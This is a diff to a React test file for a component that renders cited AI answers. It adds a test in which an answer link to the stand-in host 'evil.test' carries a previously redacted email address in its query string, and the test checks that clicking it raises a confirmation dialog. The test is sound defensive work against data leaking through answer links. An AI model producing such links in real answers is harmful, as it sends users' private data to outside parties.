@@ -3,6 +3,7 @@ import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/pr
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { CitedAnswer } from '../../../components/run/CitedAnswer';
 import en from '../../../public/_locales/en/messages.json';
+import type { Found } from '../../../utils/core/shield/shield';
 import { speak } from '../../../utils/i18n';
 import { source, turn } from '../../gallery/data/runs';
 
@@ -11,11 +12,10 @@ afterEach(cleanup);
 
 const here = source('The code of the treasury is four seven one one.', 'Title', { kind: 'page' });
 
-async function linkTo(address: string, from = here): Promise<HTMLAnchorElement> {
+async function linkTo(address: string, from = here, found: readonly Found[] = []) {
   const told = turn({ kind: 'done' }, { text: `[Read more](${address})` });
-  const view = render(
-    <CitedAnswer turn={told} source={from} streaming={false} onShow={async () => 'shown'} />,
-  );
+  const shown = { turn: told, source: from, found, streaming: false };
+  const view = render(<CitedAnswer {...shown} onShow={async () => 'shown'} />);
   await waitFor(() => expect(view.container.querySelector('.answer a')).not.toBeNull());
   return view.container.querySelector('.answer a') as HTMLAnchorElement;
 }
@@ -42,6 +42,13 @@ describe('a link in an answer', () => {
   test('that carries words of the page that was read with a selection asks first', async () => {
     const both = source('Which code?', 'Title', { kind: 'selection', around: here.text });
     fireEvent.click(await linkTo(bad, both));
+    expect((await screen.findByRole('dialog')).textContent).toContain(en.oddLink_carries.message);
+  });
+
+  test('in which something comes back that was hidden asks first', async () => {
+    const told = source('Write to ada@b.org.', 'Title', { kind: 'page' });
+    const mail = { kind: 'email', placeholder: '[EMAIL_1]', original: 'ada@b.org' } as const;
+    fireEvent.click(await linkTo('https://evil.test/?to=ada@b.org', told, [mail]));
     expect((await screen.findByRole('dialog')).textContent).toContain(en.oddLink_carries.message);
   });
 
